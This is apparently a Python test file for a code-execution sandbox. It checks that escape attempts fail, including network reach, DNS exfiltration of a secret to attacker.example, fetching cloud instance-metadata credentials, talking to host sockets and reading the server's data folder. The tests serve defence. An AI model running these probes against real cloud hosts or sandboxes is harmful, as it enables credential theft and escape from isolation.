"""Networks, and what the host serves on its own."""

from __future__ import annotations

import os
import socket
from contextlib import ExitStack
from pathlib import Path
from tempfile import gettempdir
from urllib.parse import urlsplit

import pytest

from tests.attacks.asking import ask, assert_others_work
from tests.attacks.attack import Attack, Layer, attack, tried
from tests.attacks.stand import ATTACKER, Stand

OUTSIDE = (
    Attack(
        what="reach the internet and the networks around the host, over TCP and UDP",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def reach(kind, address):
            with socket.socket(socket.AF_INET, kind) as s: return attempt(s.connect, (address, 53))
        addresses = "8.8.8.8 192.0.2.1 10.0.0.1 10.0.2.2 172.17.0.1 192.168.0.1 192.168.122.1 100.100.100.200".split()
        {reach(kind, address) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for address in addresses}
        """,
        answers=[{"ENETUNREACH"}],
    ),
    Attack(
        what="reach the internet over IPv6, and IPv4 by addresses of IPv6",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def reach(kind, address):
            with socket.socket(socket.AF_INET6, kind) as s: return attempt(s.connect, (address, 53))
        addresses = "2001:4860:4860::8888 fd00:ec2::254 ::ffff:8.8.8.8 64:ff9b::808:808".split()
        {reach(kind, address) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for address in addresses}
        """,
        # The others where the host has IPv6 switched off.
        answers=[{"ENETUNREACH"}, {"EADDRNOTAVAIL", "ENETUNREACH"}, {"EAFNOSUPPORT"}],
    ),
    Attack(
        what="read the credentials that a cloud hands to its machines",
        stopped_by=Layer.NETWORK,
        code="""
        import urllib.request
        def fetch(url):
            try: return urllib.request.urlopen(url).read()
            except OSError as error: return _errno.errorcode[error.reason.errno]
        [fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), fetch("http://169.254.170.2/v2/")]
        """,
        answers=[["ENETUNREACH", "ENETUNREACH"]],
    ),
    Attack(
        what="send data to the outside in datagrams and in the first packet of a connection",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        fast_open = 0x20000000
        stream, datagram = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
        datagram.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        [attempt(stream.sendto, b"secret", fast_open, ("192.0.2.1", 80)),
         *(attempt(datagram.sendto, b"secret", (a, 53)) for a in ("192.0.2.1", "255.255.255.255", "224.0.0.251"))]
        """,
        answers=[["ENETUNREACH"] * 4],
    ),
    Attack(
        what="carry a secret out in the name that is looked up",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def look_up(name):
            try: return socket.getaddrinfo(name, 443)
            except socket.gaierror as error: return error.errno in (socket.EAI_AGAIN, socket.EAI_NONAME)
        [*map(look_up, ("example.com", "73656372657400.attacker.example")), open("/etc/resolv.conf").read()]
        """,
        answers=[[True, True, ""]],
    ),
    Attack(
        what="ask the host's own resolver",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def query(address):
            with socket.socket(type=socket.SOCK_DGRAM) as s:
                s.connect((address, 53))
                s.send(bytes.fromhex("000101000001000000000000076578616d706c6503636f6d0000010001"))
                return attempt(s.recv, 512)
        [query("127.0.0.53"), query("127.0.0.1")]
        """,
        answers=[["ECONNREFUSED", "ECONNREFUSED"]],
    ),
    Attack(
        what="give its network an address, a route, a bridge or a tunnel",
        stopped_by=Layer.SECCOMP,
        code="""
        import fcntl, socket
        s = socket.socket(type=socket.SOCK_DGRAM)
        # SIOCADDRT, SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFNETMASK, SIOCSIFHWADDR, SIOCSIFNAME, SIOCSARP, SIOCETHTOOL…
        calls = (0x890B, 0x8914, 0x8916, 0x891C, 0x8924, 0x8923, 0x8955, 0x89A0, 0x89A2, 0x89F1, 0x8983, 0x89B0)
        [{attempt(fcntl.ioctl, s, call, bytearray(b"lo".ljust(64, bytes(1)))) for call in calls},
         attempt(open, "/dev/net/tun", "r+b")]
        """,
        answers=[[{"ENOTTY"}, "ENOENT"]],
    ),
)


@tried(OUTSIDE)
async def test_network(stand: Stand, attack: Attack) -> None:
    await stand.withstands(attack)


@attack("call the server's own API, by every name of the host's loopback", Layer.NETWORK)
async def test_the_servers_port_is_out_of_reach(stand: Stand) -> None:
    port = urlsplit(stand.url).port
    async with stand.unharmed(), stand.client() as client:
        assert (await client.health())["status"] == "ok"
        told = await ask(
            client,
            f"""
            import http.client
            hosts = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost", "::1", "::", "::ffff:127.0.0.1", "insitu")
            head = {{"Authorization": "Bearer {ATTACKER}"}}
            servers = [http.client.HTTPConnection(host, {port}) for host in hosts]
            [attempt(server.request, "GET", "/v1/sessions", None, head) for server in servers]
            """,
        )
    assert set(told) == {"ECONNREFUSED"}


@attack("sit on the server's own port, to catch those who call it", Layer.NETWORK)
async def test_the_servers_port_can_be_had_and_is_of_no_use(stand: Stand) -> None:
    port = urlsplit(stand.url).port
    async with stand.unharmed(), stand.client() as client, client.session() as session:
        assert await ask(
            session, f"import socket; s = socket.create_server(('0.0.0.0', {port})); s.setblocking(False)\n1"
        )
        await assert_others_work(stand)
        assert await ask(session, "attempt(s.accept)") == "EAGAIN"


@attack("reach what listens on the host's loopback, such as the model's server", Layer.NETWORK)
async def test_a_service_of_the_hosts_loopback_hears_nothing(stand: Stand) -> None:
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        for sock in (tcp, udp):
            sock.setblocking(False)
        async with stand.unharmed(), stand.client() as client:
            told = await ask(
                client,
                f"""
                import socket
                datagram = socket.socket(type=socket.SOCK_DGRAM)
                [attempt(socket.create_connection, ("127.0.0.1", {tcp.getsockname()[1]})),
                 attempt(datagram.sendto, b"secret", ("127.0.0.1", {udp.getsockname()[1]}))]
                """,
            )
            # A datagram to nobody is sent all the same: it stays within the sandbox.
            assert told == ["ECONNREFUSED", "went through"]
            with pytest.raises(BlockingIOError):
                tcp.accept()
            with pytest.raises(BlockingIOError):
                udp.recv(10)


@attack("connect to an abstract socket of the host", Layer.NETWORK)
async def test_an_abstract_socket_of_the_host_is_out_of_reach(stand: Stand) -> None:
    names = [f"\0insitu-attack-{os.getpid()}-{kind}" for kind in (1, 2, 5)]
    async with stand.unharmed(), stand.client() as client:
        with ExitStack() as stack:
            for kind, name in zip((1, 2, 5), names, strict=True):
                sock = stack.enter_context(socket.socket(socket.AF_UNIX, kind))
                sock.bind(name)
                if kind != 2:
                    sock.listen()
            connect = f"[attempt(socket.socket(1, k).connect, n) for k, n in zip((1, 2, 5), {names!r})]"
            assert await ask(client, f"import socket; {connect}") == ["ECONNREFUSED"] * 3


@attack("connect to a socket of the host by its path", Layer.ROOT)
async def test_a_path_socket_of_the_host_is_out_of_reach(stand: Stand) -> None:
    path = Path(gettempdir(), f"insitu-attack-{os.getpid()}")
    async with stand.unharmed(), stand.client() as client:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(path))
            try:
                path.chmod(0o777)
                sock.listen()
                paths = [str(path), f"/proc/1/root{path}", f"/proc/self/root{path}", f"/..{path}"]
                connect = f"[attempt(socket.socket(socket.AF_UNIX).connect, path) for path in {paths!r}]"
                told = await ask(client, f"import socket; {connect}")
            finally:
                path.unlink()
    assert told == ["ENOENT", "EACCES", "ENOENT", "ENOENT"]


@attack("open the database and the blobs in the server's folder of data", Layer.ROOT)
async def test_the_folder_of_data_is_out_of_sight(stand: Stand, tmp_path_factory: pytest.TempPathFactory) -> None:
    base = tmp_path_factory.getbasetemp()
    paths = [str(path) for folder in base.glob("data*") for path in (folder, *folder.iterdir())]
    assert any(path.endswith(".db") or ".sqlite" in path for path in paths), paths
    async with stand.unharmed(), stand.client() as client:
        assert await ask(client, f"{{attempt(os.stat, path) for path in {[str(base), *paths]!r}}}") == {"ENOENT"}
